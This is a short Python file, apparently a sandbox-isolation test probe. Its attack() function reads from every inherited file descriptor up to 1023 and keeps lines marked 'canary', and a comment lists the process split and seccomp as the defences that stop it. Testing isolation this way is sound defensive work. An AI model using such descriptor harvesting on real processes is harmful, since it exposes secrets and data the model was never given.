"""Reads whatever files and pipes the process may have inherited, all descriptors from 0 to 1023."""
# stopped by: process split, seccomp
import os
import select


def attack():
    found, failures = [], set()
    for descriptor in set(range(1024)) - {10, 11}:
        poll = select.poll()
        poll.register(descriptor, select.POLLIN)
        try:
            if not any(event & select.POLLNVAL for _, event in poll.poll(0)):
                found.append(os.read(descriptor, 65536).decode("latin-1") if poll.poll(0) else "")
        except OSError as error:
            failures.add(error.strerror)
    return "\n".join(line for text in found for line in text.splitlines() if "canary" in line)
